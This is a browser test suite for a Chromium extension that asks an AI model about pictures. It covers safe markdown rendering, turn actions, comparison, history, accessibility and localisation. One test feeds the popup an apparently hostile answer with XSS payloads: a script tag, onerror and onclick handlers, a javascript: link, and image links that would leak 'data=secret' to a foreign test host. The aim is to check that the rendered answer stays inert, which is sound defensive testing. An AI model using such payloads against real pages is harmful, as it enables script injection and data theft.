/**
 * The popup as a place to think, in real Chromium: safe markdown, turn actions, one-click
 * questions, Look closer, the answer language, comparison, history across a restart, languages of
 * the UI, dark mode, 200 % zoom, the keyboard, and axe-core in every state.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { axeViolations } from './support/axe';
import { Extension } from './support/extension';
import { OptionsPage, PopupPage } from './support/pages';
import { useBrowserSuite } from './support/suite';
import { held } from './support/held';

const suite = useBrowserSuite({ otherSites: 1 });
const { server, site } = suite;
const foreign = suite.other(0);


type Body = { messages: { role: string; content: string | { type: string; text?: string; image_url?: { url: string; detail: string } }[] }[] };

beforeAll(async () => {
  await configure();
});

async function configure(values: Parameters<OptionsPage['save']>[0] = {}, on: Extension = suite.extension) {
  const options = await OptionsPage.open(on);
  await options.save({ apiKey: 'sk-popup', baseUrl: server.url, model: 'gpt-4o', detail: 'low', sendImagesAs: 'url', ...values });
  await options.page.close();
}

async function askAbout(selector = '#plain', on: Extension = suite.extension): Promise<PopupPage> {
  const page = await on.context.newPage();
  await page.goto(site.url('/pictures.html'));
  await on.chooseMenuItem(page, selector, 'ask-image', { waitForAnswer: true });
  return PopupPage.open(on);
}

describe('answers rendered safely', () => {
  it('a hostile answer renders inert: no script runs, no request leaves for a foreign host', async () => {
    const host = foreign.origin;
    server.reply({
      text: [
        '**Bold** words and a list:',
        '- one',
        '- two',
        `<script>window.__pwned = 'script'</script>`,
        `<img src="${host}/steal.png?data=secret" onerror="window.__pwned = 'onerror'">`,
        `A chart: ![a chart](${host}/leak.png?data=secret)`,
        'A trap: [click me](javascript:window.__pwned=%27link%27)',
        'A link: [a safe link](https://example.com/page)',
        `Raw: <a href="${host}/x" onclick="window.__pwned='click'">raw link</a>`,
      ].join('\n\n'),
    });
    const popup = await askAbout();
    const answer = popup.answer.locator('.answer');
    await expect.poll(() => answer.textContent()).toContain('a safe link');

    expect(await answer.locator('strong').textContent()).toBe('Bold');
    expect((await answer.locator('li').allTextContents()).map((text) => text.trim())).toEqual(['one', 'two']);
    expect(await answer.locator('img, script, iframe, [onerror], [onclick]').count()).toBe(0);
    expect(await answer.textContent()).toContain("<script>window.__pwned = 'script'</script>");
    expect(await answer.textContent()).toContain('[a chart]');
    const safe = answer.getByRole('link', { name: 'a safe link' });
    expect(await safe.getAttribute('target')).toBe('_blank');
    expect(await safe.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await answer.getByText('click me').getAttribute('href')).toBeNull();
    await answer.getByText('click me').click();
    expect(await popup.page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    await popup.page.waitForLoadState('networkidle');
    expect(foreign.requested).toEqual([]);
  });
});

describe('turn actions', () => {
  it('Copy puts the answer on the clipboard', async () => {
    server.reply({ text: 'Copy me, please.' });
    const popup = await askAbout();
    // Reading the clipboard back needs a permission Chromium will not grant an extension page in a
    // test, so the real writeText is watched on its way through.
    await popup.page.evaluate(() => {
      const clipboard = navigator.clipboard;
      const write = clipboard.writeText.bind(clipboard);
      (window as unknown as { copied: string[] }).copied = [];
      clipboard.writeText = (text: string) => {
        (window as unknown as { copied: string[] }).copied.push(text);
        return write(text);
      };
    });
    await popup.page.getByRole('button', { name: 'Copy answer' }).click();
    await popup.page.getByRole('status').filter({ hasText: 'Copied.' }).waitFor();
    expect(await popup.page.evaluate(() => (window as unknown as { copied: string[] }).copied)).toEqual(['Copy me, please.']);
  });

  it('Retry asks again afresh, and Edit resends a changed question, dropping later turns', async () => {
    server.reply({ text: 'First answer.' }).reply({ text: 'Second answer.' });
    const popup = await askAbout();
    await popup.followUp('And the colour?');
    await expect.poll(() => popup.answer.textContent()).toContain('Second answer.');

    server.reply({ text: 'Retried answer.' });
    await popup.page.getByRole('button', { name: 'Retry' }).last().click();
    await expect.poll(() => popup.answer.textContent()).toContain('Retried answer.');
    expect(server.asks).toHaveLength(3);

    server.reply({ text: 'Answer to the edited question.' });
    await popup.page.getByRole('button', { name: 'Edit' }).first().click();
    await popup.page.getByLabel('Edited question').fill('What shape is it?');
    await popup.page.getByRole('button', { name: 'Resend' }).click();
    await expect.poll(() => popup.answer.textContent()).toContain('Answer to the edited question.');
    const body = server.asks[3]!.body as Body;
    expect(body.messages).toHaveLength(1);
    expect((body.messages[0]!.content as { text?: string }[])[1]!.text).toBe('What shape is it?');
    expect(await popup.answer.textContent()).not.toContain('And the colour?');
  });

  it('one-click questions send their prompt, and the user\'s own appear beside them', async () => {
    await configure();
    const options = await OptionsPage.open(suite.extension);
    await options.page.getByLabel('Your own one-click questions').fill('Colours: Which colours are in this picture?');
    await options.save({});
    await options.page.close();
    const popup = await askAbout();
    await popup.page.getByRole('button', { name: 'Read the text' }).click();
    await expect.poll(() => server.asks.length).toBe(2);
    expect((server.asks[1]!.body as Body).messages.at(-1)).toEqual({ role: 'user', content: 'Read out all the text in this picture, exactly as written, in reading order.' });
    await expect.poll(() => popup.page.getByRole('button', { name: 'Colours' }).isEnabled()).toBe(true);
    await popup.page.getByRole('button', { name: 'Colours' }).click();
    await expect.poll(() => server.asks.length).toBe(3);
    expect((server.asks[2]!.body as Body).messages.at(-1)).toEqual({ role: 'user', content: 'Which colours are in this picture?' });
  });

  it('Look closer shows the extra cost first, then asks again at high detail', async () => {
    const popup = await askAbout('#large');
    // gpt-4o, 1024x1024: low is 85 tokens, high 765: 680 more, at $2.50 per million.
    await popup.page.getByText('(+680 tokens · +$0.0017)').waitFor();
    await popup.page.getByRole('button', { name: 'Look closer' }).click();
    await expect.poll(() => server.asks.length).toBe(2);
    const body = server.asks[1]!.body as Body;
    expect((body.messages[0]!.content as { image_url?: { detail: string } }[])[0]!.image_url!.detail).toBe('high');
    expect(body.messages.at(-1)).toEqual({ role: 'user', content: "What's in this image?" });
  });
});

describe('the answer language', () => {
  it('is sent as an instruction when chosen, leaving the first message as it was', async () => {
    const options = await OptionsPage.open(suite.extension);
    await options.page.getByLabel('Answer language').selectOption('fr');
    await options.save({});
    await options.page.close();
    await askAbout();
    const body = server.asks[0]!.body as Body;
    expect(body.messages[0]).toEqual({ role: 'system', content: 'Answer in French.' });
    expect(body.messages[1]!.role).toBe('user');
    const again = await OptionsPage.open(suite.extension);
    await again.page.getByLabel('Answer language').selectOption('');
    await again.save({});
  });
});

describe('comparison', () => {
  it('collects pictures from several tabs, reorders and removes them, and sends them in order, numbered', async () => {
    const first = await suite.extension.context.newPage();
    await first.goto(site.url('/pictures.html'));
    const second = await suite.extension.context.newPage();
    await second.goto(site.url('/kinds.html'));
    await suite.extension.chooseMenuItem(first, '#plain', 'compare-add', { waitForAnswer: true });
    await suite.extension.chooseMenuItem(second, '#overlay', 'compare-add', { waitForAnswer: true });
    await suite.extension.chooseMenuItem(first, '#in-picture', 'compare-add', { waitForAnswer: true });

    const popup = await PopupPage.open(suite.extension);
    await popup.page.getByRole('button', { name: 'Compare (3)' }).click();
    expect(await axeViolations(popup.page)).toEqual([]);
    await popup.page.getByRole('button', { name: 'Move picture 3 earlier' }).click();
    await popup.page.getByRole('button', { name: 'Remove picture 1' }).click();
    await popup.page.getByLabel('Question about all 2 pictures').fill('Which is blue?');
    await popup.page.getByRole('button', { name: 'Compare', exact: true }).click();

    const body = (await server.waitForAsk(1)).body as Body;
    const parts = body.messages[0]!.content as { type: string; text?: string; image_url?: { url: string } }[];
    expect(parts.map((p) => (p.type === 'text' ? p.text : p.image_url!.url))).toEqual([
      'Picture 1:',
      site.url('/images/green.png'),
      'Picture 2:',
      site.url('/images/blue.png'),
      'There are 2 pictures, numbered 1 to 2 in the order given. Refer to them by their numbers.\n\nWhich is blue?',
    ]);
    await popup.page.getByRole('list', { name: '2 pictures compared' }).waitFor();
    await expect.poll(() => popup.answer.textContent()).toContain('A red square');
  });
});

describe('history', () => {
  it('lists, searches, opens and deletes conversations, and survives a browser restart', async () => {
    const profile = await mkdtemp(join(tmpdir(), 'ask-image-restart-'));
    try {
      const browser = await Extension.launch({ userDataDir: profile });
      // The first install opened the options, where the key goes.
      expect(browser.firstRunPage).toBe(browser.url('options.html'));
      await configure({}, browser);
      server.reply({ text: 'About the red one.' });
      await (await askAbout('#plain', browser)).page.close();
      server.reply({ text: 'About the orange one.' });
      const second = await askAbout('#large', browser);
      await second.followUp('Is it square?');
      await expect.poll(() => second.answer.textContent()).toContain('A red square');
      await browser.close();

      const reopened = await Extension.launch({ userDataDir: profile });
      try {
        // A restart is not a first run: no options page opens by itself.
        const tabs = await (await reopened.worker()).evaluate(async () =>
          (await (globalThis as unknown as { chrome: { tabs: { query(q: object): Promise<{ url?: string }[]> } } }).chrome.tabs.query({})).map((tab) => tab.url ?? ''),
        );
        expect(tabs.filter((url) => url.endsWith('/options.html'))).toEqual([]);
        const popup = await PopupPage.open(reopened);
        await popup.page.getByRole('button', { name: 'History' }).click();
        const list = popup.page.locator('.history-list li');
        await expect.poll(() => list.count()).toBe(2);
        expect(await axeViolations(popup.page)).toEqual([]);
        await popup.page.getByLabel('Search the history').fill('square');
        await expect.poll(() => list.count()).toBe(1);
        await popup.page.getByLabel('Search the history').fill('');
        await expect.poll(() => list.count()).toBe(2);

        // Entries are told apart by their answers and the site, not by the one-click question they share.
        expect(await list.nth(0).getByRole('button').first().textContent()).toBe('About the orange one.');
        expect(await list.nth(1).textContent()).toContain(new URL(site.url('/')).hostname);
        // Open the older conversation: its answer is back in the popup.
        await list.nth(1).getByRole('button', { name: 'About the red one.', exact: true }).click();
        await expect.poll(() => popup.answer.textContent()).toContain('About the red one.');

        await popup.page.getByRole('button', { name: 'History' }).click();
        await list.first().getByRole('button', { name: /^Delete/ }).click();
        await expect.poll(() => list.count()).toBe(1);
        await popup.page.getByRole('button', { name: 'Clear all…' }).click();
        await popup.page.getByRole('button', { name: 'Clear all', exact: true }).click();
        await popup.page.getByText('No conversations yet.').waitFor();
      } finally {
        await reopened.close();
      }
    } finally {
      await rm(profile, { recursive: true, force: true });
    }
  });
});

describe('accessibility and looks', () => {
  it('axe-core finds nothing on the popup when empty, streaming, answered and in error, nor on the options', async () => {
    const fresh = await Extension.launch();
    try {
      const empty = await PopupPage.open(fresh);
      await empty.page.getByRole('heading', { name: 'Ask about any picture' }).waitFor();
      expect(await axeViolations(empty.page)).toEqual([]);
      await empty.page.close();

      await configure({}, fresh);
      const options = await OptionsPage.open(fresh);
      expect(await axeViolations(options.page)).toEqual([]);
      await options.page.close();

      // The server holds the rest of the answer until Stop is clicked, so Stop always lands midway.
      const { until: rest, release } = held();
      server.reply({ text: 'word '.repeat(200), chunkDelayMs: 25, pause: { afterChunks: 5, until: rest } });
      const page = await fresh.context.newPage();
      await page.goto(site.url('/pictures.html'));
      await fresh.chooseMenuItem(page, '#plain', 'ask-image');
      const streaming = await PopupPage.open(fresh);
      await expect.poll(() => streaming.answer.textContent()).toContain('word word');
      expect(await axeViolations(streaming.page)).toEqual([]);
      await streaming.stop.click();
      release();
      await streaming.page.getByText('Stopped.').waitFor();
      expect(await axeViolations(streaming.page)).toEqual([]);

      server.reply({ status: 500, error: { message: 'The server is having a bad day.' } }).reply({ status: 500 }).reply({ status: 500 });
      await streaming.followUp('Again?');
      await streaming.page.getByText(/The server answered 500/).waitFor();
      expect(await axeViolations(streaming.page)).toEqual([]);
    } finally {
      await fresh.close();
    }
  });

  it('a streaming answer is announced politely a sentence at a time, not per token, as words without markdown', async () => {
    // The answer waits until the test listens, however long the popup takes to open on a busy machine.
    let listening!: () => void;
    const ready = new Promise<void>((resolve) => (listening = resolve));
    server.reply({ text: 'The first sentence is **here**. The second one _follows_!\n\n- And then the end', chunkDelayMs: 60, holdUntil: ready });
    const page = await suite.extension.context.newPage();
    await page.goto(site.url('/pictures.html'));
    await suite.extension.chooseMenuItem(page, '#plain', 'ask-image');
    const popup = await PopupPage.open(suite.extension);
    expect(await popup.answer.getAttribute('aria-live')).toBe('off');
    const live = popup.page.locator('[aria-live="polite"]');
    // Every text the polite region takes on is recorded as it happens.
    await popup.page.evaluate(() => {
      const region = document.querySelector('[aria-live="polite"]')!;
      const heard: string[] = [];
      (window as unknown as { heard: string[] }).heard = heard;
      new MutationObserver(() => {
        const text = region.textContent ?? '';
        if (text && heard.at(-1) !== text) heard.push(text);
      }).observe(region, { childList: true, subtree: true, characterData: true });
    });
    listening();
    await expect.poll(() => live.textContent()).toBe('And then the end');
    const heard = await popup.page.evaluate(() => (window as unknown as { heard: string[] }).heard);
    // Whole sentences, never a word at a time (a busy machine may hand two sentences over at once),
    // and the words without their markdown marks.
    expect(heard.join(' ')).toBe('The first sentence is here. The second one follows! And then the end');
    expect(heard.length).toBeLessThanOrEqual(3);
    for (const said of heard.slice(0, -1)) expect(said).toMatch(/[.!?]$/);
    expect(await axeViolations(popup.page)).toEqual([]);
  });

  it('works by keyboard alone: Tab to the question, type, Enter asks', async () => {
    const popup = await askAbout();
    await popup.question.focus();
    await popup.page.keyboard.type('Asked by keyboard');
    await popup.page.keyboard.press('Enter');
    await expect.poll(() => server.asks.length).toBe(2);
    expect((server.asks[1]!.body as Body).messages.at(-1)).toEqual({ role: 'user', content: 'Asked by keyboard' });
    // Every control can be reached with Tab, and shows where the focus is.
    await popup.page.keyboard.press('Shift+Tab');
    const outline = await popup.page.evaluate(() => getComputedStyle(document.activeElement!).outlineStyle);
    expect(outline).not.toBe('none');
  });

  it('follows a dark system theme, and stays readable at 200 % zoom', async () => {
    const popup = await askAbout();
    await popup.page.emulateMedia({ colorScheme: 'dark' });
    const background = await popup.page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
    expect(background).toBe('rgb(31, 31, 31)');
    // 200 % zoom of a 420 px popup leaves 210 CSS pixels: nothing may need sideways scrolling.
    await popup.page.setViewportSize({ width: 210, height: 600 });
    const overflow = await popup.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    expect(overflow).toBeLessThanOrEqual(0);
  });

  it('speaks the browser\'s language: French here', async () => {
    const french = await Extension.launch({ language: 'fr' });
    try {
      const popup = await PopupPage.open(french);
      await popup.page.getByRole('heading', { name: 'Posez une question sur n’importe quelle image' }).waitFor();
      // The page says which language it speaks (screen readers choose their voice by it), and its title.
      expect(await popup.page.evaluate(() => [document.documentElement.lang, document.title])).toEqual(['fr', 'Demander à propos de cette image']);
      await popup.page.getByRole('button', { name: 'Historique' }).waitFor();
      const options = await french.openPage('options.html');
      await options.getByLabel('Clé d’API').waitFor();
      await options.getByRole('button', { name: 'Enregistrer', exact: true }).waitFor();
    } finally {
      await french.close();
    }
  });
});
